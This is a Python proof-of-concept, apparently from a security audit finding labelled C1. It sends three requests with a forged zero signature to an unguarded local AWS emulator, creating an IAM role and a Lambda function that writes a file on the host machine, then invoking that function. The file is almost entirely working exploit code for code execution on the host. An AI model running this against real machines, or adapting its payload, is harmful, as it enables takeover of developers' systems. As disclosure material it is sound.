"""The exploit of finding C1: three requests that take over the machine of whoever runs an emulator without a guard."""

import io
import json
import zipfile
from base64 import b64encode
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlencode

from infra.local.place import ACCOUNT


def as_root(service: str) -> str:
    """Return a query that names root as the signer and has zeros for a signature."""
    now = datetime.now(UTC)
    return urlencode({
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": f"test/{now:%Y%m%d}/us-east-1/{service}/aws4_request",
        "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}",
        "X-Amz-Expires": "300",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0" * 64,
    })  # fmt: skip


def exploit(written: Path) -> list[tuple[str, bytes]]:
    """Return C1's three requests: a role, a function that writes a file as the user who ran `make up`, its call."""
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
        ],
    }
    role = urlencode({
        "Action": "CreateRole",
        "Version": "2010-05-08",
        "RoleName": "page",
        "AssumeRolePolicyDocument": json.dumps(trust),
    })  # fmt: skip
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as code:
        code.writestr("page.py", f"def handler(event, context):\n    open({str(written)!r}, 'w').write('taken over')\n")
    function = {
        "FunctionName": "page",
        "Role": f"arn:aws:iam::{ACCOUNT}:role/page",
        "Runtime": "python3.11",
        "Handler": "page.handler",
        "Code": {"ZipFile": b64encode(packed.getvalue()).decode()},
    }
    functions = "/2015-03-31/functions"
    return [
        (f"/?{as_root('iam')}", role.encode()),
        (f"{functions}?{as_root('lambda')}", json.dumps(function).encode()),
        (f"{functions}/page/invocations?{as_root('lambda')}", b"{}"),
    ]
